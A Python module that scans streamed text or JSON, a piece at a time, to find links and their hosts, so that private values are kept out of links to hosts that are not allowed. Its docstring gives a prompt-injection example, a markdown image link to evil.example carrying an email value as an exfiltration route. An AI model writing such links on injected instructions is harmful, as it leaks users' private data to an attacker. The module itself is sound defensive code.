"""Where a text is inside a link, and whose link it is: read a piece at a time, in bounded memory.

Why: a model that follows an injected instruction may write `![x](https://evil.example/?q=[[EMAIL_ADDRESS_1]])`, or the
same into a tool's argument, and whoever opens that link hands the value over. So the restorer asks here first.

A link begins at `//`, at `http:` and its like (with or without slashes, since browsers do not need them), and at
`www.`, also where slashes are written `\\/` or `&#47;`. It ends at white space, a quote or an angle bracket; but where
it stands in quotes after `=`, `(`, `:` or `,`, or fills a JSON string from its beginning, only at the closing mark,
because readers of such a link drop or encode the space in it. Not seen: a host and a path in two fields, and a domain
without scheme or `www.`."""

from __future__ import annotations

import re
from collections.abc import Callable

_SLASH = r"(?:/|&sol;|&#x0{0,4}2f;|&#0{0,4}47;)"
_COLON = r"(?::|&colon;|&#x0{0,4}3a;|&#0{0,4}58;)"
_START = rf"(?i:(?P<www>(?<![\w.@-])www\.)|(?:https?|ftps?|wss?){_COLON}|{_SLASH}(?:{_SLASH}|\\)|(?<=[=(][\"'])\\[/\\])"
_ENDS = {"": r"[\s\"<>`\0]", '"': r"[\"\0]", "'": r"['\0]", ">": r"[>\0]", "\0": r"\0"}
_OUTSIDE = re.compile(_START)
_INSIDE = {closer: re.compile(f"(?P<end>{end})|{_START}") for closer, end in _ENDS.items()}
_AUTHORITY = {closer: re.compile(f"(?P<end>{end})|[/?#]") for closer, end in _ENDS.items()}
_SLASHES = re.compile(r"[/\\]+")
_OPENER = re.compile(
    r"(?:[=(:,\[]\s?(?P<quote>[\"'])|\((?P<angle><)|(?P<string>\0))\s?(?:[A-Za-z][A-Za-z0-9+.-]{0,31}:)?\Z"
)
HOST = r"[\w.${}-]{1,253}"
"""`{host}` and `${HOST}` too: in code, where they stand for a host."""
_PORT = "(?::[0-9]{1,5})?"
_HOST = re.compile(rf"(?:[\w.~%!$&'()*+,;=:-]*@)?({HOST}){_PORT}\\?")
_AUTHORITY_OF = re.compile(rf"(?:[^@\\]*@)?({HOST}){_PORT}")
_PATH = re.compile(r"[/?#]")
_AHEAD_END = re.compile(r"[\s\"<>`\\/?#\0]")
_SPACE = re.compile(r"\s+")
_JSON = re.compile(r'"|\\(?:u[0-9a-fA-F]{4}|[^u])|\\(?:u[0-9a-fA-F]{0,3})?\Z', re.DOTALL)
_SHORT = {"n": "\n", "t": "\t", "r": "\r", "b": " ", "f": " "}

_TAIL = 64
"""Characters remembered: more than the longest beginning of a link with what may stand before it."""
_PART = 24
"""Characters that a beginning cut off by the end of the text can have."""
_MAX_HOST = 272
MAX_NESTED = 8
"""Links within a link that are told apart; one with more is nobody's."""

Allowed = Callable[[str], bool]
"""May private values stand in links to this host (small letters)?"""


class Links:
    """One text, as the reader will get it. `as_json`: raw JSON, whose strings are read as what they say."""

    __slots__ = ("_as_json", "_authority", "_closer", "_escape", "_from", "_hosts", "_inside", "_starting", "_tail")

    def __init__(self, as_json: bool = False) -> None:
        self._as_json = as_json
        self._escape = ""
        self._tail = ""
        """The end of the text so far: outside a link, and in the part of a link after its host."""
        self._from = 0
        """Where in the text now read the part begins that a beginning of a link may still lie in."""
        self._inside = False
        self._starting = False
        """In the slashes that lead to the host."""
        self._authority: str | None = None
        """The host so far, while it is being said."""
        self._closer = ""
        self._hosts: list[str] = []

    def refuses(self, allowed: Allowed) -> bool:
        """Must a value not stand here? So in a link's host, and anywhere in a link to a host that is not allowed."""
        if not self._inside:
            return False
        return self.in_host or not self.within(allowed)

    @property
    def in_host(self) -> bool:
        """Before the end of a link's host, so that whose link it is may still be to be said."""
        return self._inside and (self._starting or self._authority is not None)

    def said(self) -> str:
        """Of the host, what is said of it so far."""
        return self._authority or ""

    def within(self, allowed: Allowed) -> bool:
        """May values stand in the links that this one is within, if any?"""
        return len(self._hosts) <= MAX_NESTED and all(host and allowed(host) for host in self._hosts)

    def feed(self, text: str) -> None:
        """What comes next, as it stands in the text."""
        if self._as_json:
            text = self._unescaped(self._escape + text)
        self.say(text)

    def say(self, text: str) -> None:
        """What comes next, as it reads."""
        at = len(self._tail)
        text = self._tail + text
        self._from = 0
        while at < len(text):
            if not self._inside:
                at = self._outside(text, at)
            elif self._starting:
                at = self._slashes(text, at)
            elif self._authority is not None:
                at = self._in_authority(text, at)
            else:
                at = self._in_path(text, at)
        in_host = self._starting or self._authority is not None
        self._tail = text[-1:] if in_host else _ending(text[self._from :])

    def _unescaped(self, raw: str) -> str:
        self._escape = ""
        return _JSON.sub(self._said, raw) if '"' in raw or "\\" in raw else raw

    def _said(self, match: re.Match[str]) -> str:
        text = match[0]
        if text == '"':
            return "\0"
        if len(text) == 1 or (text[1] == "u" and len(text) < 6):
            self._escape = text
            return ""
        return chr(int(text[2:], 16)) if text[1] == "u" else _SHORT.get(text[1], text[1])

    def _outside(self, text: str, at: int) -> int:
        match = _OUTSIDE.search(text, max(self._from, at - _PART)) if _may_begin(text) else None
        if match is None:
            return len(text)
        opener = _OPENER.search(_ending(text[self._from : match.start()]))
        self._closer = ""
        if opener is not None:
            self._closer = opener["quote"] or (">" if opener["angle"] else "\0")
        self._hosts = []
        return self._begin(match)

    def _begin(self, match: re.Match[str]) -> int:
        self._inside = True
        self._starting, self._authority = match["www"] is None, match["www"]
        return match.end()

    def _end(self, match: re.Match[str]) -> int:
        self._inside, self._authority = False, None
        self._from = max(0, match.start() - 1)
        return match.end()

    def _slashes(self, text: str, at: int) -> int:
        """Any number of them."""
        match = _SLASHES.match(text, at)
        if match is not None:
            return match.end()
        self._starting, self._authority = False, ""
        return at

    def _in_authority(self, text: str, at: int) -> int:
        assert self._authority is not None
        match = _AUTHORITY[self._closer].search(text, at)
        end = match.start() if match is not None else len(text)
        self._authority = (self._authority + text[at:end])[:_MAX_HOST]
        if match is None:
            return end
        if match["end"]:
            return self._end(match)
        host = _HOST.fullmatch(self._authority)
        self._hosts = [*self._hosts, host[1].lower().rstrip(".") if host is not None else ""][: MAX_NESTED + 1]
        self._authority, self._from = None, match.start()
        return match.end()

    def _in_path(self, text: str, at: int) -> int:
        match = _INSIDE[self._closer].search(text, max(self._from, at - _PART))
        if match is None:
            return len(text)
        return self._end(match) if match["end"] else self._begin(match)


def _may_begin(text: str) -> bool:
    """What every beginning of a link has one of. Most text has none, and this tells it in a twentieth of the time."""
    return "/" in text or ":" in text or "&" in text or "\\" in text or "www." in text.lower()


def host_ahead(text: str, at: int, final: bool) -> str | None:
    """What follows at `at` up to the end of a link's host; "\\" if that is no host, None if its end is not to be seen yet.
    `final`: no more text will come."""
    stop = _AHEAD_END.search(text, at, at + _MAX_HOST)
    if stop is None and not final:
        return "\\" if len(text) - at >= _MAX_HOST else None
    end = stop.start() if stop is not None else len(text)
    if stop is not None and stop[0] == "\\" and text[end + 1 : end + 2] != "/":
        return "\\" if final or end + 1 < len(text) else None
    return text[at:end].rstrip("'),;].")


def host_of(authority: str) -> str:
    """The host of `name:secret@host:port`, in small letters; "" if it is none."""
    match = _AUTHORITY_OF.fullmatch(_PATH.split(authority, maxsplit=1)[0])
    return match[1].lower().rstrip(".") if match is not None else ""


def _ending(text: str) -> str:
    """The last characters, white space runs as one."""
    return _SPACE.sub(" ", text)[-_TAIL:]
